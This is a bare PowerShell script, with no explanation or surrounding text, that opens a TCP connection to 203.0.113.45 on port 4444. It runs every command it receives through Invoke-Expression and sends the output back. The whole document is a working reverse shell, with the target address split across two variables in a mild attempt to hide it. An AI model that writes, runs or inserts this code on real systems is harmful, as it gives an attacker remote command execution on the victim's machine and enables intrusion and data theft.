$a='203.0.113.';$b='45'
$c=New-Object Net.Sockets.TCPClient(($a+$b),4444);$s=$c.GetStream()
[byte[]]$buf=0..65535|%{0}
while(($i=$s.Read($buf,0,$buf.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($buf,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}
